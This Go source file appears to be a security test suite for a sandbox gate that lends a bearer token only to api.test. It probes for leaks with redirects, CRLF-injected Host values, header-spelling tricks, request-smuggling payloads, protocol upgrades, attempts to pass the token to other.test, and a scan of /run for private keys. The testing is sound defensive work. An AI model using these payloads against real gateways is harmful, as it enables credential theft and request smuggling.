//go:build linux

package main

import (
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

// bundle is the file of certificates that programs trust.
func bundle() (*x509.CertPool, []byte, error) {
	text, err := os.ReadFile(os.Getenv("SSL_CERT_FILE"))
	pool := x509.NewCertPool()
	if err == nil && !pool.AppendCertsFromPEM(text) {
		err = errors.New("no certificate in it")
	}
	return pool, text, err
}

// secure opens TLS to port 443 of a host, as a program that trusts the bundle.
func secure(host string, config *tls.Config) (*tls.Conn, error) {
	pool, _, err := bundle()
	if err != nil {
		return nil, err
	}
	if config.RootCAs = pool; config.ServerName == "" {
		config.ServerName = host
	}
	c, err := connectWay(host + ":443")
	if err != nil {
		return nil, err
	}
	t := tls.Client(c, config)
	return t, closed(c, t.Handshake())
}

// tell sends bytes to api.test inside TLS and returns the whole response.
func tell(raw string) (string, error) {
	c, err := secure("api.test", &tls.Config{NextProtos: []string{"http/1.1"}})
	if err != nil {
		return "", err
	}
	defer c.Close()
	return exchange(c, raw)
}

func secureGet(path, headers string) (string, error) {
	return tell("GET " + path + " HTTP/1.1\r\nHost: api.test\r\n" + headers + "Connection: close\r\n\r\n")
}

// lent is a control: the host gets the secret, which the program does not have.
func lent(r *report) {
	reply, err := secureGet("/who", "Authorization: Bearer "+os.Getenv("TOKEN")+"\r\n")
	if err == nil && !strings.HasSuffix(reply, "granted\n") {
		err = fmt.Errorf("it replied %q", reply)
	}
	r.works("the secret reaches its host", err)
	if !strings.HasPrefix(os.Getenv("TOKEN"), "belljar-secret-") {
		r.breach("the variable TOKEN is no placeholder")
	}
}

// brokered runs the attacks on brokered secrets. The peer counts where the secret arrived.
func brokered(r *report, args []string) {
	lent(r)
	for _, what := range args {
		attack, ok := map[string]func(*report){
			"redirect": redirected, "plaintext": plaintext, "echo": echoed, "header": ownHeader, "names": otherNames, "pipeline": pipelined,
			"smuggle": smuggled, "protocols": otherProtocols, "authority": authority,
		}[what]
		if !ok {
			r.breach("no attack %s", what)
			continue
		}
		attack(r)
	}
}

// redirected follows a redirect with all its headers.
func redirected(r *report) {
	reply, err := secureGet("/away", "")
	if err == nil && !strings.Contains(reply, "Location: https://other.test/who\r\n") {
		err = fmt.Errorf("%q", reply)
	}
	r.works("a redirect arrives", err)
	c, err := secure("other.test", &tls.Config{InsecureSkipVerify: true})
	r.works("the other host", err)
	if err != nil {
		return
	}
	defer c.Close()
	reply, err = exchange(c, "GET /who HTTP/1.1\r\nHost: other.test\r\nAuthorization: Bearer "+os.Getenv("TOKEN")+"\r\nConnection: close\r\n\r\n")
	if err != nil || !strings.Contains(reply, "anonymous") {
		r.breach("the other host replied %q, %v", reply, err)
	}
}

// plaintext sends requests to the host without encryption.
func plaintext(r *report) {
	for name, way := range fronts() {
		c, err := way("api.test:80")
		r.deniedSoon(name+" to port 80", err)
		if err == nil {
			_, _ = exchange(c, page("/who", "api.test"))
			c.Close()
		}
	}
	_, err := fetch("api.test", "/who")
	r.deniedSoon("port 80", err)
	reply, err := speak("api.test:443", page("/who", "api.test"))
	if strings.Contains(reply, "granted") {
		r.breach("the host got the secret without TLS: %q, %v", reply, err)
	}
}

// echoed makes the host send the secret back, in every place and encoding.
func echoed(r *report) {
	for _, way := range []string{"body", "header", "cookie", "early", "trailer", "chunks", "gzip", "deflate", "base64", "basic", "hex", "url", "range", "br"} {
		reply, err := secureGet("/echo?"+way, "Accept-Encoding: gzip, br\r\nRange: bytes=0-9\r\nTE: trailers\r\n")
		refused := strings.HasPrefix(reply, "HTTP/1.1 502 ")
		switch {
		case err != nil:
			r.works("the echo in "+way, err)
		case refused != (way == "br"), !refused && !strings.Contains(reply, "********"):
			r.breach("the echo in %s: %q", way, reply)
		default:
			fmt.Printf("the echo in %s is hidden\n", way)
		}
	}
}

// ownHeader sends a header with the secret's name, in spellings that servers treat as that name.
func ownHeader(r *report) {
	for _, own := range []string{
		"Authorization: Bearer guest\r\n", "authorization: guest\r\nAUTHORIZATION: guest\r\n", "Connection: Authorization\r\nAuthorization: guest\r\n",
		"Authorization : guest\r\n", "Authorization\t: guest\r\n", "X: y\r\n Authorization: guest\r\n", "X: y\nAuthorization: guest\r\n",
		"Connection: close\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\n\r\n0\r\nAuthorization: guest\r\n",
	} {
		reply, err := secureGet("/who", own)
		if err != nil || strings.Contains(reply, "anonymous") || !strings.HasPrefix(reply, "HTTP/1.1 ") {
			r.breach("%q: %q, %v", own, reply, err)
			continue
		}
		fmt.Printf("%q: %.12s\n", own, reply)
	}
}

// otherNames tries to send the secret to another host: by the name in TLS, and by the name in a request.
func otherNames(r *report) {
	c, err := secure("api.test", &tls.Config{ServerName: "other.test", InsecureSkipVerify: true})
	r.deniedSoon("another name in TLS", err)
	if err == nil {
		c.Close()
	}
	for _, host := range []string{"other.test", "api.test.other.test", "api.test:80", "api.test@other.test", "api.test\r\nHost: other.test"} {
		reply, err := tell(page("/who", host))
		if err != nil || strings.HasPrefix(reply, "HTTP/1.1 200") {
			r.breach("Host %q: %q, %v", host, reply, err)
		}
	}
	for _, target := range []string{"https://other.test/who", "http://api.test/who", "//other.test/who"} {
		if reply, err := tell("GET " + target + " HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"); err != nil || strings.Contains(reply, "granted") && !strings.HasPrefix(target, "//") {
			r.breach("target %q: %q, %v", target, reply, err)
		}
	}
}

// pipelined sends several requests together, some of them for another host.
func pipelined(r *report) {
	const right = "GET /who HTTP/1.1\r\nHost: api.test\r\n\r\n"
	reply, err := tell(right + right + page("/who", "other.test") + right)
	if n := strings.Count(reply, "granted\n"); err != nil || n != 2 || strings.Contains(reply, "anonymous") {
		r.breach("%d answers: %q, %v", n, reply, err)
	}
}

// smuggled hides a request in another one, so that two parsers may see different ends.
func smuggled(r *report) {
	inner := page("/smuggled", "api.test")
	rest := "0\r\n\r\n" + inner
	for what, raw := range map[string]string{
		"both lengths":    fmt.Sprintf("POST /who HTTP/1.1\r\nHost: api.test\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n%s", len(rest), rest),
		"two lengths":     "POST /who HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\nContent-Length: 60\r\nConnection: close\r\n\r\n" + inner,
		"an odd encoding": fmt.Sprintf("POST /who HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: xchunked\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(rest), rest),
		"a body":          fmt.Sprintf("POST /who HTTP/1.1\r\nHost: api.test\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(inner), inner),
		"an odd chunk":    "POST /who HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0;\n\r\n" + inner,
	} {
		reply, err := tell(raw)
		if err != nil || strings.Contains(reply, "smuggled") {
			r.breach("%s: %q, %v", what, reply, err)
		}
	}
}

// otherProtocols speaks protocols that the gate cannot check.
func otherProtocols(r *report) {
	c, err := secure("api.test", &tls.Config{NextProtos: []string{"h2"}})
	r.deniedSoon("HTTP/2 alone", err)
	if err == nil {
		c.Close()
	}
	reply, err := tell("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	if err == nil && strings.HasPrefix(reply, "HTTP/1.1 200") {
		r.breach("HTTP/2 at once: %q", reply)
	}
	for _, protocol := range []string{"websocket", "h2c"} {
		reply, err := secureGet("/upgrade", "Connection: Upgrade\r\nUpgrade: "+protocol+"\r\n")
		if strings.HasPrefix(reply, "HTTP/1.1 101") || strings.Contains(reply, "Bearer s") {
			r.breach("%s began: %q, %v", protocol, reply, err)
		}
	}
	reply, _ = tell("CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
	if strings.HasPrefix(reply, "HTTP/1.1 200") {
		r.breach("CONNECT: %q", reply)
	}
}

// authority checks the sandbox's certificate authority: it must be useless for other hosts, and its key must not be
// in the sandbox.
func authority(r *report) {
	_, text, err := bundle()
	r.works("the bundle", err)
	var last *x509.Certificate
	for {
		var block *pem.Block
		if block, text = pem.Decode(text); block == nil {
			break
		}
		if last, err = x509.ParseCertificate(block.Bytes); err != nil {
			r.breach("the bundle: %v", err)
			return
		}
	}
	if last == nil || !last.PermittedDNSDomainsCritical || strings.Join(last.PermittedDNSDomains, " ") != "api.test" || len(last.ExcludedIPRanges) != 2 {
		r.breach("the authority is for other hosts, too: %+v", last)
	}
	c, err := secure("other.test", &tls.Config{})
	if err == nil {
		c.Close()
	}
	if _, unknown := errors.AsType[x509.UnknownAuthorityError](err); !unknown { // its certificate must be from an authority of its own
		r.breach("the authority for another host: %v", err)
	}
	_ = filepath.WalkDir("/run", func(path string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			if text, err := os.ReadFile(path); err == nil && strings.Contains(string(text), "PRIVATE KEY-----") {
				r.breach("a key in %s", path)
			}
		}
		return nil
	})
}
